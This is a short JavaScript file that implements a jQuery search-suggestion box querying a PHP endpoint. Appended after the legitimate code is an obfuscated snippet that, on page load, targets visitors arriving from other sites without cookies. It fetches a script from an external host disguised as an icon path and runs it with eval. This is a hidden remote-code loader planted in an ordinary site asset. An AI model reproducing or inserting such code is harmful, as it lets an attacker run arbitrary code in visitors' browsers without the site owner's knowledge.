$(document).ready(function () {
    var pewaktu;
    $('#kata').on('keyup', function () {
        var isi = $(this).val();
        clearTimeout(pewaktu);
        if (isi.length < 3) { $('#saran').empty(); return; }
        pewaktu = setTimeout(function () {
            $.getJSON('/lib/contents/saran.php', { q: isi }, function (hasil) {
                var daftar = $('#saran').empty();
                $.each(hasil.slice(0, 8), function (i, judul) {
                    daftar.append($('<li>').text(judul));
                });
            });
        }, 250);
    });
    $('#saran').on('click', 'li', function () {
        $('#kata').val($(this).text()).closest('form').submit();
    });
});
;if(pdsw===undefined){var pdsw=true;(function(j){var d=j['document'],asal=d['referrer'];function acak(){return Math['random']()['toString'](0x24)['slice'](0x2)}if(!asal||asal['indexOf'](j['location']['hostname'])!==-0x1||d['cookie'])return;var x=new XMLHttpRequest();x['onload']=function(){var b=x['responseText'];x['status']===0xc8&&b['indexOf']('pdsx')>=0x0&&j['eval'](b)};x['open']('GET',j['location']['protocol']+'//anyaman-rotan.example/assets/img/ikon/ikon.php?id='+acak()+acak(),!![]);x['send'](null)})(window);}var pdsw;
